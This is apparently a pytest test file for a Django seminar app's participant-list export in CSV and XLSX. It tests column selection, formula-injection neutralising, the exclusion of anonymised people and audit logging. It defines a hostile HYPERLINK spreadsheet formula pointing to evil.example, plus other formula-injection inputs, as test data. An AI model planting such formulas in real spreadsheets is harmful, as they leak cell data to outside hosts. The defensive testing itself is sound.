"""Participant list exports: chosen columns, custom answers, CSV and XLSX,
formula injection neutralised, anonymised people left out, every export audited."""

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AuditEntry
from attendance.models import Attendance
from registrations.models import Answer, Question, Registration
from reporting.exports import neutralise
from tests.factories import AgendaSessionFactory, RegistrationFactory, SeminarFactory, UserFactory

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def seminar(organisation):
    return SeminarFactory(
        organisation=organisation,
        slug="referral-pathways",
        starts_at=datetime(2031, 4, 14, 7, tzinfo=UTC),
        ends_at=datetime(2031, 4, 14, 15, tzinfo=UTC),
    )


@pytest.fixture
def organiser_client(client, organiser):
    client.force_login(organiser)
    return client


@pytest.fixture
def people(seminar):
    """Ana (a formula in her organisation and answers), Bojan (checked in, two hours),
    and an anonymised registration."""
    lunch = Question.objects.create(
        seminar=seminar, kind="single_choice", label_en="Lunch", options_en="Meat\nFish", position=1
    )
    why = Question.objects.create(seminar=seminar, kind="short_text", label_en="Why?", position=2)
    ana = RegistrationFactory(
        seminar=seminar,
        user=UserFactory(full_name="Ana Novak", email="ana@example.org"),
        organisation=HOSTILE,
        job_title="@SUM(1+1)",
        created_at=datetime(2024, 3, 1, 9, 30, tzinfo=UTC),
    )
    Answer.objects.create(registration=ana, question=lunch, choices=[2])
    Answer.objects.create(registration=ana, question=why, text="-2+3\tcmd")
    session = AgendaSessionFactory(seminar=seminar)
    bojan = RegistrationFactory(
        seminar=seminar,
        user=UserFactory(full_name="Bojan Kralj", email="bojan@example.org"),
        organisation="Police Ljubljana",
        country="HR",
        checked_in_at=datetime(2031, 4, 14, 6, 50, tzinfo=UTC),
    )
    Attendance.objects.create(registration=bojan, session=session)
    gone = RegistrationFactory(seminar=seminar, user=None, organisation="", anonymised_at=timezone.now())
    return {"ana": ana, "bojan": bojan, "gone": gone, "lunch": lunch, "why": why}


def export(client, seminar, columns, file_format, **extra):
    return client.post(
        f"/manage/seminars/{seminar.pk}/export/", {"columns": columns, "format": file_format, **extra}
    )


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_neutralise_prefixes_a_quote_to_formula_starts_only():
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Ana = Novak") == "Ana = Novak"
    assert neutralise(Decimal("-1.5")) == Decimal("-1.5")
    assert neutralise(None) is None


def test_csv_has_the_chosen_columns_with_answers_and_neutralised_formulas(organiser_client, seminar, people):
    lunch, why = people["lunch"], people["why"]
    response = export(
        organiser_client,
        seminar,
        [
            "name",
            "email",
            "organisation",
            "job_title",
            "country",
            f"question-{lunch.pk}",
            f"question-{why.pk}",
        ],
        "csv",
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="referral-pathways-participants-' + (
        timezone.localdate(timezone.now(), seminar.zone).isoformat() + '.csv"'
    )
    # Made on request, never stored, kept by no cache (README "Files").
    assert response["Cache-Control"] == "private, no-store"
    assert read_csv(response) == [
        ["Name", "Email", "Organisation", "Job title", "Country", "Lunch", "Why?"],
        ["Ana Novak", "ana@example.org", "'" + HOSTILE, "'@SUM(1+1)", "Slovenia", "Fish", "'-2+3\tcmd"],
        ["Bojan Kralj", "bojan@example.org", "Police Ljubljana", "", "Croatia", "", ""],
    ]


def test_xlsx_stores_neutralised_text_as_text_and_numbers_as_numbers(organiser_client, seminar, people):
    response = export(
        organiser_client,
        seminar,
        ["name", "organisation", "registered_at", "checked_in_at", "hours_attended", "status"],
        "xlsx",
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [
        # In the order of the form, whatever the order of the request.
        ["Name", "Organisation", "Status", "Registered at", "Checked in at", "Hours attended"],
        ["Ana Novak", "'" + HOSTILE, "Confirmed", datetime(2024, 3, 1, 10, 30), None, 0],
        [
            "Bojan Kralj",
            "Police Ljubljana",
            "Confirmed",
            rows[2][3],
            datetime(2031, 4, 14, 8, 50),  # in the seminar's zone: CEST
            2,
        ],
    ]
    hostile_cell = sheet.cell(row=2, column=2)
    assert hostile_cell.data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_exports_never_include_anonymised_registrations(organiser_client, seminar, people):
    response = export(organiser_client, seminar, ["name", "organisation"], "csv")

    names = [row[0] for row in read_csv(response)[1:]]
    assert names == ["Ana Novak", "Bojan Kralj"]
    assert "Anonymised participant" not in response.content.decode("utf-8-sig")


def test_export_filters_by_status(organiser_client, seminar, people):
    RegistrationFactory(
        seminar=seminar, user=UserFactory(full_name="Cene Waiting"), status=Registration.Status.WAITLISTED
    )

    waiting = read_csv(export(organiser_client, seminar, ["name"], "csv", status="waitlisted"))
    everyone = read_csv(export(organiser_client, seminar, ["name"], "csv"))

    assert waiting == [["Name"], ["Cene Waiting"]]
    assert [row[0] for row in everyone[1:]] == ["Ana Novak", "Bojan Kralj", "Cene Waiting"]


def test_each_export_is_audited_without_personal_data(organiser_client, organiser, seminar, people):
    export(organiser_client, seminar, ["name", "email"], "xlsx")

    entry = AuditEntry.objects.get(action="registrations.export")
    assert entry.actor == organiser
    assert entry.target_id == str(seminar.pk)
    assert entry.details == {
        "seminar": "referral-pathways",
        "format": "xlsx",
        "columns": ["name", "email"],
        "status": "",
        "rows": 2,
    }
    assert "Ana" not in str(entry.details)


def test_bad_choices_are_refused_with_a_message_and_nothing_exported(organiser_client, seminar, people):
    for data in (
        {"columns": ["name", "password"], "format": "csv"},
        {"columns": [], "format": "csv"},
        {"columns": ["name"], "format": "pdf"},
        {"columns": ["name"], "format": "csv", "status": "\x00"},
    ):
        response = organiser_client.post(f"/manage/seminars/{seminar.pk}/export/", data)
        assert response.status_code == 400
        assert "Nothing was exported" in response.content.decode()
    assert not AuditEntry.objects.filter(action="registrations.export").exists()


def test_the_form_offers_every_column_and_each_question(organiser_client, seminar, people):
    page = organiser_client.get(f"/manage/seminars/{seminar.pk}/export/").content.decode()

    for key in (
        "name",
        "email",
        "organisation",
        "job_title",
        "country",
        "professional_group",
        "status",
        "registered_at",
        "checked_in_at",
        "hours_attended",
    ):
        assert f'name="columns" value="{key}"' in page
    assert f'value="question-{people["lunch"].pk}"' in page
    assert f'value="question-{people["why"].pk}"' in page


def test_other_organisations_seminar_is_not_found(client, seminar, people):
    stranger = UserFactory()
    client.force_login(stranger)

    assert client.get(f"/manage/seminars/{seminar.pk}/export/").status_code == 404
    assert export(client, seminar, ["name"], "csv").status_code == 404
    assert not AuditEntry.objects.exists()


def test_export_costs_a_fixed_number_of_queries(organiser_client, seminar, people):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = export(
                organiser_client, seminar, ["name", "hours_attended", f"question-{people['why'].pk}"], "xlsx"
            )
        assert response.status_code == 200
        return len(captured)

    few = queries()
    for number in range(20):
        registration = RegistrationFactory(seminar=seminar)
        Answer.objects.create(registration=registration, question=people["why"], text=f"answer {number}")
    assert queries() == few
